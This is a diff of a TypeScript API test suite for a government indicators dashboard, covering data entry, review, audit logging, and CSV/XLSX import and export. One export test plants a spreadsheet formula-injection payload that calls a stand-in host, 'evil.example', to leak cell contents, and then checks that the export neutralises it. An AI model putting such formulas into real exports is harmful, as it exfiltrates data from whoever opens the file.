@@ -26,7 +26,8 @@ beforeAll(async () => {
   const skhcnOfficer = await userWithRoles(t, 'can-bo@skhcn.gov.vn', [{ role: 'unit_officer', unitCode: 'SKHCN' }]);
   officer = { ...skhcnOfficer.browser, userId: skhcnOfficer.user.id };
   wardOfficer = (await userWithRoles(t, 'can-bo@phuong.gov.vn', [{ role: 'unit_officer', unitCode: '25747' }])).browser;
-  manager = (await userWithRoles(t, 'quan-ly@skhcn.gov.vn', [{ role: 'programme_manager', unitCode: 'SKHCN', includesSubtree: true }])).browser;
+  manager = (await userWithRoles(t, 'quan-ly@skhcn.gov.vn', [{ role: 'programme_manager', unitCode: 'SKHCN', includesSubtree: true }]))
+    .browser;
   await enrolTotp(t, manager);
   // Both an officer of SKHCN and a programme manager: may enter values, may never approve their own.
   officerManager = (
@@ -36,7 +37,8 @@ beforeAll(async () => {
     ])
   ).browser;
   await enrolTotp(t, officerManager);
-  for (const row of await t.testDb.database.db.select({ id: indicators.id, code: indicators.code }).from(indicators)) ids.set(row.code, row.id);
+  for (const row of await t.testDb.database.db.select({ id: indicators.id, code: indicators.code }).from(indicators))
+    ids.set(row.code, row.id);
 });
 afterAll(() => t.close());
 
@@ -49,25 +51,35 @@ describe('GET /api/indicators/dashboard', () => {
     expect(res.statusCode).toBe(200);
     expect(res.headers.etag).toBeTruthy();
     const d: Dashboard = res.json();
-    expect(d.frameworks.map((f) => f.code)).toEqual(['CTR54-2030', 'HST-2025', 'NQ57-2030']);
-    expect(d.indicators).toHaveLength(18);
+    expect(d.frameworks.map((f) => f.code)).toEqual(['CTR54-2030', 'HST-2025', 'NQ57-QG-2030', 'TP-2030']);
+    expect(d.indicators).toHaveLength(20);
     const statusOf = (code: string) => indicatorOf(d, code).assessment.status;
     // Demo values (illustrative) chosen to show every status; the arithmetic is in docs/indicator-status-method.md.
-    expect(statusOf('NS-KHCN')).toBe('achieved');
+    // A yearly floor: 3.1 % in 2025 reaches "at least 3 %" for that year; 2030 is not over, so on track.
+    expect(statusOf('NS-KHCN')).toBe('on_track');
+    expect(indicatorOf(d, 'NS-KHCN').assessment).toMatchObject({ method: 'annual_floor', expected: 3, projected: null });
+    expect(statusOf('NSLD')).toBe('off_track');
     expect(statusOf('KTS-GRDP')).toBe('on_track');
     expect(statusOf('RD-GRDP')).toBe('at_risk');
     expect(statusOf('TFP')).toBe('off_track');
     expect(statusOf('NL-KHCN')).toBe('no_data');
     const digital = indicatorOf(d, 'KTS-GRDP');
-    expect(digital.targets).toEqual([{ year: 2030, min: 30, max: 40, isIllustrative: false }]);
-    expect(digital.baseline).toEqual({ value: 25, year: 2024, isIllustrative: true });
-    expect(digital.series).toEqual([expect.objectContaining({ period: '2025', value: 27, isIllustrative: true })]);
-    expect(indicatorOf(d, 'NL-KHCN').baseline).toEqual({ value: 21000, year: 2025, isIllustrative: false });
+    expect(digital.targets).toEqual([{ year: 2030, min: 30, max: 40, qualifier: null, isIllustrative: false }]);
+    expect(digital.baseline).toEqual({ value: 22, year: 2024, qualifier: null, isIllustrative: false });
+    expect(digital.series).toEqual([expect.objectContaining({ period: '2025', value: 25, isIllustrative: false })]);
+    // A share is never projected past 100 %: 22 → 25 in one year would be 40 % by 2030, inside the bound.
+    expect(digital.assessment).toMatchObject({ method: 'share', projected: 40, isProjectedToMeet: true });
+    expect(indicatorOf(d, 'NL-KHCN').baseline).toEqual({ value: 21000, year: 2025, qualifier: 'more_than', isIllustrative: false });
+    expect(indicatorOf(d, 'TCKHCN-QT').targets[0]).toMatchObject({ min: 5, qualifier: 'at_least' });
   });
 
   it('answers 304 to a caller who has the current version', async () => {
     const first = await t.app.inject({ method: 'GET', url: '/api/indicators/dashboard' });
-    const again = await t.app.inject({ method: 'GET', url: '/api/indicators/dashboard', headers: { 'if-none-match': String(first.headers.etag) } });
+    const again = await t.app.inject({
+      method: 'GET',
+      url: '/api/indicators/dashboard',
+      headers: { 'if-none-match': String(first.headers.etag) },
+    });
     expect(again.statusCode).toBe(304);
   });
 
@@ -113,19 +125,35 @@ describe('POST /api/indicators/:id/observations', () => {
     expect(res.json().error.message.en).toBe('Reporting period 2026-Q3 has not started yet');
   });
 
-  it("refuses an officer of another unit with 403, and an unknown indicator with 404", async () => {
+  it('refuses an officer of another unit with 403, and an unknown indicator with 404', async () => {
     const other = await as(t.app, wardOfficer)({ method: 'POST', url: url('PHU-5G'), payload: { period: '2025-Q3', value: 67 } });
     expect(other.statusCode).toBe(403);
-    const unknown = await as(t.app, officer)({ method: 'POST', url: '/api/indicators/00000000-0000-4000-8000-000000000001/observations', payload: { period: '2025', value: 1 } });
+    const unknown = await as(
+      t.app,
+      officer,
+    )({ method: 'POST', url: '/api/indicators/00000000-0000-4000-8000-000000000001/observations', payload: { period: '2025', value: 1 } });
     expect(unknown.statusCode).toBe(404);
   });
 
   it('takes the value from an officer of the responsible unit, awaiting review, with its audit row; a second one for the period waits (409)', async () => {
-    const res = await as(t.app, officer)({ method: 'POST', url: url('PHU-5G'), payload: { period: '2025-Q3', value: 67, sourceNote: 'Báo cáo của các nhà mạng' } });
+    const res = await as(
+      t.app,
+      officer,
+    )({ method: 'POST', url: url('PHU-5G'), payload: { period: '2025-Q3', value: 67, sourceNote: 'Báo cáo của các nhà mạng' } });
     expect(res.statusCode).toBe(201);
     const body = res.json();
-    expect(body).toMatchObject({ period: '2025-Q3', periodEnd: '2025-09-30', revision: 1, value: 67, status: 'submitted', canReview: false });
-    const [audit] = await t.testDb.database.db.select().from(auditEvents).where(and(eq(auditEvents.entityId, body.id), eq(auditEvents.action, 'indicators.observation.submit')));
+    expect(body).toMatchObject({
+      period: '2025-Q3',
+      periodEnd: '2025-09-30',
+      revision: 1,
+      value: 67,
+      status: 'submitted',
+      canReview: false,
+    });
+    const [audit] = await t.testDb.database.db
+      .select()
+      .from(auditEvents)
+      .where(and(eq(auditEvents.entityId, body.id), eq(auditEvents.action, 'indicators.observation.submit')));
     expect(audit?.actorId).toBe(officer.userId);
     // Sent, so no longer missing; not approved, so the public series does not show it.
     const phu = indicatorOf(await dashboard(), 'PHU-5G');
@@ -139,7 +167,10 @@ describe('POST /api/indicators/:id/observations', () => {
 
 describe('approving and returning values', () => {
   const submit = async (browser: Browser, code: string, period: string, value: number) => {
-    const res = await as(t.app, browser)({ method: 'POST', url: `/api/indicators/${ids.get(code)}/observations`, payload: { period, value } });
+    const res = await as(
+      t.app,
+      browser,
+    )({ method: 'POST', url: `/api/indicators/${ids.get(code)}/observations`, payload: { period, value } });
     expect(res.statusCode, res.body).toBe(201);
     return res.json().id as string;
   };
@@ -155,12 +186,18 @@ describe('approving and returning values', () => {
       en: 'You cannot approve or return a value you entered yourself',
     });
 
-    const queue = (await as(t.app, manager)({ method: 'GET', url: '/api/indicators/work' })).json().reviewQueue as Array<{ id: string; canReview: boolean }>;
+    const queue = (await as(t.app, manager)({ method: 'GET', url: '/api/indicators/work' })).json().reviewQueue as Array<{
+      id: string;
+      canReview: boolean;
+    }>;
     expect(queue.find((o) => o.id === id)?.canReview).toBe(true);
     const approved = await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${id}/approve` });
     expect(approved.statusCode).toBe(200);
     expect(approved.json()).toMatchObject({ status: 'approved', reviewedBy: { displayName: 'quan-ly' } });
-    const [audit] = await t.testDb.database.db.select().from(auditEvents).where(and(eq(auditEvents.entityId, id), eq(auditEvents.action, 'indicators.observation.approve')));
+    const [audit] = await t.testDb.database.db
+      .select()
+      .from(auditEvents)
+      .where(and(eq(auditEvents.entityId, id), eq(auditEvents.action, 'indicators.observation.approve')));
     expect(audit?.after).toEqual({ status: 'approved' });
 
     // The dashboard shows it at once: 1.3 % at the end of 2026 against the path 1 → 2 % (expected 1.33, allowance 0.1).
@@ -175,7 +212,10 @@ describe('approving and returning values', () => {
     const id = await submit(officer, 'TCKHCN-QT', '2026', 3);
     const noReason = await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${id}/return`, payload: {} });
     expect(noReason.statusCode).toBe(400);
-    const returned = await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${id}/return`, payload: { note: 'Thiếu danh sách tổ chức kèm theo' } });
+    const returned = await as(
+      t.app,
+      manager,
+    )({ method: 'POST', url: `/api/indicators/observations/${id}/return`, payload: { note: 'Thiếu danh sách tổ chức kèm theo' } });
     expect(returned.statusCode).toBe(200);
     expect(returned.json()).toMatchObject({ status: 'returned', reviewNote: 'Thiếu danh sách tổ chức kèm theo' });
     const told = await t.testDb.database.db.select().from(notifications).where(eq(notifications.userId, officer.userId));
@@ -184,7 +224,12 @@ describe('approving and returning values', () => {
     await submit(officer, 'TCKHCN-QT', '2026', 2);
     const history = await as(t.app, officer)({ method: 'GET', url: `/api/indicators/${ids.get('TCKHCN-QT')}/observations` });
     expect(history.statusCode).toBe(200);
-    expect(history.json().items.filter((o: { period: string }) => o.period === '2026').map((o: { revision: number; status: string; value: number }) => [o.revision, o.status, o.value])).toEqual([
+    expect(
+      history
+        .json()
+        .items.filter((o: { period: string }) => o.period === '2026')
+        .map((o: { revision: number; status: string; value: number }) => [o.revision, o.status, o.value]),
+    ).toEqual([
       [2, 'submitted', 2],
       [1, 'returned', 3],
     ]);
@@ -201,7 +246,8 @@ describe('approving and returning values', () => {
 });
 
 describe('import and export', () => {
-  const upload = (browser: Browser, fileName: string, bytes: Buffer) => as(t.app, browser)({ method: 'POST', url: '/api/indicators/import', ...multipartFile(fileName, bytes) });
+  const upload = (browser: Browser, fileName: string, bytes: Buffer) =>
+    as(t.app, browser)({ method: 'POST', url: '/api/indicators/import', ...multipartFile(fileName, bytes) });
   const count = async () => (await t.testDb.database.db.select({ id: indicatorObservations.id }).from(indicatorObservations)).length;
 
   it('errs per row and imports nothing when any row is wrong', async () => {
@@ -212,7 +258,7 @@ describe('import and export', () => {
       'KHONG-CO,2026,1,',
       'PHU-5G,2026-Q5,80,',
       'DN-KHCN,2026,"1,5",',
-      'KTS-GRDP,2026,28,',
+      'NS-KHCN,2026,3.2,',
     ].join('\n');
     const res = await upload(officer, 'so-lieu.csv', Buffer.from(csv));
     expect(res.statusCode).toBe(400);
@@ -253,7 +299,9 @@ describe('import and export', () => {
   it('refuses a file that is neither CSV nor XLSX by its content with 415, and text without the columns with 400', async () => {
     const pdf = await upload(officer, 'so-lieu.xlsx', pdfBytes);
     expect(pdf.statusCode).toBe(415);
-    expect(pdf.json().error.message.en).toBe("File type of 'so-lieu.xlsx' is not accepted (detected: application/pdf); accepted: Excel (XLSX), CSV, plain text");
+    expect(pdf.json().error.message.en).toBe(
+      "File type of 'so-lieu.xlsx' is not accepted (detected: application/pdf); accepted: Excel (XLSX), CSV, plain text",
+    );
     const text = await upload(officer, 'so-lieu.xlsx', Buffer.from('not a workbook at all'));
     expect(text.statusCode).toBe(400);
     expect(text.json().error.message.en).toBe('The header row lacks the column(s): indicator_code, period, value');
@@ -264,17 +312,29 @@ describe('import and export', () => {
     expect(res.statusCode).toBe(200);
     const book = XLSX.read(res.rawPayload, { type: 'buffer' });
     const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(book.Sheets[book.SheetNames[0]!]!);
-    expect(rows.find((r) => r.indicator_code === 'KTS-GRDP' && r.period === '2025')).toMatchObject({ value: 27, is_illustrative: 'true' });
+    expect(rows.find((r) => r.indicator_code === 'RD-GRDP' && r.period === '2025')).toMatchObject({ value: 1.1, is_illustrative: 'true' });
+    expect(rows.find((r) => r.indicator_code === 'KTS-GRDP' && r.period === '2025')).toMatchObject({ value: 25, is_illustrative: 'false' });
     const csv = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=csv' });
     expect(csv.headers['content-type']).toBe('text/csv; charset=utf-8');
-    expect(csv.body.split('\r\n')[0]).toBe('\ufeffindicator_code,period,value,source_note,indicator_name_vi,indicator_name_en,unit,is_illustrative');
+    expect(csv.body.split('\r\n')[0]).toBe(
+      '\ufeffindicator_code,period,value,source_note,indicator_name_vi,indicator_name_en,unit,is_illustrative',
+    );
   });
 
   it("neutralises an officer's formula in the public CSV and XLSX: the note is text, the value stays a number", async () => {
     const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Nguồn: Cục Thống kê")';
-    const sent = await as(t.app, officer)({ method: 'POST', url: `/api/indicators/${ids.get('NL-KHCN')}/observations`, payload: { period: '2025', value: 21400, sourceNote: formula } });
+    const sent = await as(
+      t.app,
+      officer,
+    )({
+      method: 'POST',
+      url: `/api/indicators/${ids.get('NL-KHCN')}/observations`,
+      payload: { period: '2025', value: 21400, sourceNote: formula },
+    });
     expect(sent.statusCode, sent.body).toBe(201);
-    expect((await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${sent.json().id}/approve` })).statusCode).toBe(200);
+    expect((await as(t.app, manager)({ method: 'POST', url: `/api/indicators/observations/${sent.json().id}/approve` })).statusCode).toBe(
+      200,
+    );
 
     const csv = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=csv' });
     const records = parse(csv.body, { bom: true }) as string[][];
@@ -284,19 +344,35 @@ describe('import and export', () => {
     const xlsx = await t.app.inject({ method: 'GET', url: '/api/indicators/export?format=xlsx' });
     const book = XLSX.read(xlsx.rawPayload, { type: 'buffer' });
     const rows = XLSX.utils.sheet_to_json<Record<string, unknown>>(book.Sheets[book.SheetNames[0]!]!);
-    expect(rows.find((r) => r.indicator_code === 'NL-KHCN' && r.period === '2025')).toMatchObject({ value: 21400, source_note: `'${formula}` });
+    expect(rows.find((r) => r.indicator_code === 'NL-KHCN' && r.period === '2025')).toMatchObject({
+      value: 21400,
+      source_note: `'${formula}`,
+    });
 
     // Edited and imported back, the note is the officer's text again, not the apostrophe.
-    const back = await as(t.app, officer)({ method: 'POST', url: '/api/indicators/import', ...multipartFile('sua.csv', Buffer.from(`indicator_code,period,value,source_note\r\nNL-KHCN,2025,21500,"'${formula.replaceAll('"', '""')}"\r\n`)) });
+    const back = await as(
+      t.app,
+      officer,
+    )({
+      method: 'POST',
+      url: '/api/indicators/import',
+      ...multipartFile(
+        'sua.csv',
+        Buffer.from(`indicator_code,period,value,source_note\r\nNL-KHCN,2025,21500,"'${formula.replaceAll('"', '""')}"\r\n`),
+      ),
+    });
     expect(back.statusCode, back.body).toBe(201);
-    const [revised] = await t.testDb.database.db.select().from(indicatorObservations).where(eq(indicatorObservations.id, back.json().observationIds[0]));
+    const [revised] = await t.testDb.database.db
+      .select()
+      .from(indicatorObservations)
+      .where(eq(indicatorObservations.id, back.json().observationIds[0]));
     expect(revised?.sourceNote).toBe(formula);
   });
 });
 
 describe('defining indicators (programme managers)', () => {
   const definition = {
-    frameworkCode: 'NQ57-2030',
+    frameworkCode: 'TP-2030',
     code: 'TTHC-NGAY',
     nameVi: 'Thời gian giải quyết thủ tục hành chính bình quân',
     nameEn: 'Average time to settle an administrative procedure',
@@ -318,13 +394,19 @@ describe('defining indicators (programme managers)', () => {
 
   it('refuses an officer (403) and an unknown unit (400, naming it)', async () => {
     expect((await as(t.app, officer)({ method: 'POST', url: '/api/indicators', payload: definition })).statusCode).toBe(403);
-    const res = await as(t.app, manager)({ method: 'POST', url: '/api/indicators', payload: { ...definition, responsibleUnitCode: 'KHONG-CO' } });
+    const res = await as(
+      t.app,
+      manager,
+    )({ method: 'POST', url: '/api/indicators', payload: { ...definition, responsibleUnitCode: 'KHONG-CO' } });
     expect(res.statusCode).toBe(400);
     expect(res.json().error.message.en).toBe("Unit 'KHONG-CO' does not exist");
   });
 
   it('refuses a target whose minimum exceeds its maximum with 400', async () => {
-    const res = await as(t.app, manager)({ method: 'POST', url: '/api/indicators', payload: { ...definition, targets: [{ year: 2030, min: 40, max: 30 }] } });
+    const res = await as(
+      t.app,
+      manager,
+    )({ method: 'POST', url: '/api/indicators', payload: { ...definition, targets: [{ year: 2030, min: 40, max: 30 }] } });
     expect(res.statusCode).toBe(400);
     expect(res.json().error.code).toBe('VALIDATION');
   });
@@ -333,17 +415,48 @@ describe('defining indicators (programme managers)', () => {
     const created = await as(t.app, manager)({ method: 'POST', url: '/api/indicators', payload: definition });
     expect(created.statusCode, created.body).toBe(201);
     const { id } = created.json();
-    const [audit] = await t.testDb.database.db.select().from(auditEvents).where(and(eq(auditEvents.entityId, id), eq(auditEvents.action, 'indicators.indicator.create')));
+    const [audit] = await t.testDb.database.db
+      .select()
+      .from(auditEvents)
+      .where(and(eq(auditEvents.entityId, id), eq(auditEvents.action, 'indicators.indicator.create')));
     expect(audit).toBeDefined();
     expect((await as(t.app, manager)({ method: 'POST', url: '/api/indicators', payload: definition })).statusCode).toBe(409);
 
     const shown = indicatorOf(await dashboard(), 'TTHC-NGAY');
-    expect(shown).toMatchObject({ direction: 'lower', frequency: 'half_year', planTaskCodes: ['4354-N3-01'], assessment: { status: 'no_data', threshold: 10 } });
+    expect(shown).toMatchObject({
+      direction: 'lower',
+      frequency: 'half_year',
+      planTaskCodes: ['4354-N3-01'],
+      assessment: { status: 'no_data', threshold: 10 },
+    });
 
     const patched = await editLoaded(as(t.app, manager), `/api/indicators/${id}`, { targets: [{ year: 2027, min: null, max: 15 }, { year: 2030, min: 8, max: 10 }], isPublic: false });
     expect(patched.statusCode, patched.body).toBe(200);
-    const [update] = await t.testDb.database.db.select().from(auditEvents).where(and(eq(auditEvents.entityId, id), eq(auditEvents.action, 'indicators.indicator.update')));
-    expect((update?.before as { targets: unknown[] }).targets).toEqual([{ year: 2030, min: null, max: 10, isIllustrative: true }]);
+    const [update] = await t.testDb.database.db
+      .select()
+      .from(auditEvents)
+      .where(and(eq(auditEvents.entityId, id), eq(auditEvents.action, 'indicators.indicator.update')));
+    expect((update?.before as { targets: unknown[] }).targets).toEqual([
+      { year: 2030, min: null, max: 10, qualifier: null, isIllustrative: true },
+    ]);
+    // One indicator per measure: the same quantity under another code, in another framework, is refused and the first is named.
+    const twin = await as(
+      t.app,
+      manager,
+    )({ method: 'POST', url: '/api/indicators', payload: { ...definition, frameworkCode: 'CTR54-2030', code: 'TTHC-NGAY-54' } });
+    expect(twin.statusCode).toBe(409);
+    expect(twin.json().error.message.en).toBe(
+      "Indicator 'TTHC-NGAY' already measures 'average_time_to_settle_an_administrative_procedure_days'; add the target to it instead of creating a second indicator",
+    );
+    const namedTwin = await as(
+      t.app,
+      manager,
+    )({
+      method: 'POST',
+      url: '/api/indicators',
+      payload: { ...definition, code: 'KTS-GDP-2', nameEn: 'Another digital economy measure', measureKey: 'digital_economy_share_grdp' },
+    });
+    expect(namedTwin.json().error.message.en).toContain("Indicator 'KTS-GRDP' already measures 'digital_economy_share_grdp'");
     // No longer public: gone from the dashboard and from the public page.
     expect((await dashboard()).indicators.some((i) => i.code === 'TTHC-NGAY')).toBe(false);
     expect((await t.app.inject({ method: 'GET', url: '/api/indicators/public/TTHC-NGAY' })).statusCode).toBe(404);
@@ -366,9 +479,15 @@ describe('evidence attached to a value', () => {
     expect(uploaded.json()).toMatchObject({ fileName: 'bao-cao.txt', mediaType: 'text/plain' });
 
     // Named for another indicator, it is refused.
-    const wrong = await as(t.app, officer)({ method: 'POST', url: `/api/indicators/${ids.get('DN-KHCN')}/observations`, payload: { period: '2025', value: 141, attachmentId } });
+    const wrong = await as(
+      t.app,
+      officer,
+    )({ method: 'POST', url: `/api/indicators/${ids.get('DN-KHCN')}/observations`, payload: { period: '2025', value: 141, attachmentId } });
     expect(wrong.statusCode).toBe(400);
-    const value = await as(t.app, officer)({ method: 'POST', url: `/api/indicators/${ids.get('NHOM-NC')}/observations`, payload: { period: '2025', value: 136, attachmentId } });
+    const value = await as(
+      t.app,
+      officer,
+    )({ method: 'POST', url: `/api/indicators/${ids.get('NHOM-NC')}/observations`, payload: { period: '2025', value: 136, attachmentId } });
     expect(value.statusCode, value.body).toBe(201);
     expect(value.json().attachmentId).toBe(attachmentId);
 
@@ -388,9 +507,15 @@ describe('missing reports and reminders', () => {
     const fresh = await signIn(t.app, 'can-bo@skhcn.gov.vn', testPassword);
     const work = await as(t.app, fresh)({ method: 'GET', url: '/api/indicators/work' });
     expect(work.statusCode).toBe(200);
-    const phu = (work.json().items as Array<{ code: string; missingPeriods: string[]; canEnter: boolean }>).find((i) => i.code === 'PHU-5G')!;
+    const phu = (work.json().items as Array<{ code: string; missingPeriods: string[]; canEnter: boolean }>).find(
+      (i) => i.code === 'PHU-5G',
+    )!;
     expect(phu).toMatchObject({ canEnter: true, missingPeriods: ['2026-Q1'] });
-    expect((work.json().items as Array<{ code: string }>).every((i) => ['RD-GRDP', 'TCKHCN-QT', 'PHU-5G', 'TCKHCN-54', 'NL-KHCN', 'NHOM-NC', 'DN-KHCN'].includes(i.code))).toBe(true);
+    expect(
+      (work.json().items as Array<{ code: string }>).every((i) =>
+        ['KTS-GRDP', 'RD-GRDP', 'TCKHCN-QT', 'PHU-5G', 'NL-KHCN', 'NHOM-NC', 'DN-KHCN'].includes(i.code),
+      ),
+    ).toBe(true);
 
     const ctx = systemContext(t.testDb.database.db, t.clock);
     const first = await remindMissingReports(ctx);
